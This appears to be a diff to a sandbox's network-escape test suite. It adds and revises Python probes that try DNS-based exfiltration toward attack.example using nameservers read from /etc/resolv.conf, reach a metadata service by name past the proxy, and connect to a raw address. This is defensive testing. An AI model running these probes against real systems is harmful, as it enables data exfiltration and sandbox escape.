@@ -66,15 +66,32 @@ const AROUND: readonly NetworkAttack[] = [
     id: "network.resolver",
     rule: "open",
     tries: "have names resolved for it, data encoded in them",
-    stoppedBy: "no resolver inside; the broker resolves only names that a rule allows",
+    stoppedBy: "the only resolver is inside and asks nobody; the broker resolves only names that a rule allows",
     script: `
 servers = re.findall(rb"nameserver (\\S+)", read("/etc/resolv.conf")) + [b"127.0.0.53", b"127.0.0.11", b"127.0.0.1"]
 for server in servers:
     s = ${UDP}; s.settimeout(0.3)
     def asked():
-        s.connect((server.decode(), 53)); s.send(bytes.fromhex("123401000001000000000000") + b"\\x06attack\\x07example\\x00\\x00\\x01\\x00\\x01"); s.recv(512)
-    if fails(asked) is None: breach(server)
+        s.connect((server.decode(), 53)); s.send(bytes.fromhex("123401000001000000000000") + b"\\x06attack\\x07example\\x00\\x00\\x01\\x00\\x01"); return s.recv(512)
+    try: answer = asked()
+    except OSError: continue
+    if len(answer) > 32 and answer[-4] != 127: breach("%s: %s" % (server, answer))
 held("%d servers" % len(servers))`,
+  },
+  {
+    id: "network.no-proxy",
+    rule: "open",
+    tries: "reach the metadata service by a name, without speaking to a proxy",
+    stoppedBy: "names lead to sandboxd, which leads to the broker alone",
+    script: `
+seen = []
+for port, words in ((80, b"GET / HTTP/1.1\\r\\nHost: metadata.example\\r\\n\\r\\n"), (443, bytes.fromhex("160301")), (PORT, b"x")):
+    try: s = socket.create_connection(("metadata.example", port), 10)
+    except OSError as e: seen.append(type(e).__name__); continue
+    answer = ask_once(words, s)
+    if "REACHED" in answer or answer and code(answer) != "address_forbidden": breach("%d: %s" % (port, answer[:80]))
+    seen.append(code(answer) or "cut off")
+held(", ".join(seen))`,
   },
   direct("raw-address", "connect to an address, past the broker", 'socket.create_connection(("1.1.1.1", 443), 5)'),
   direct(
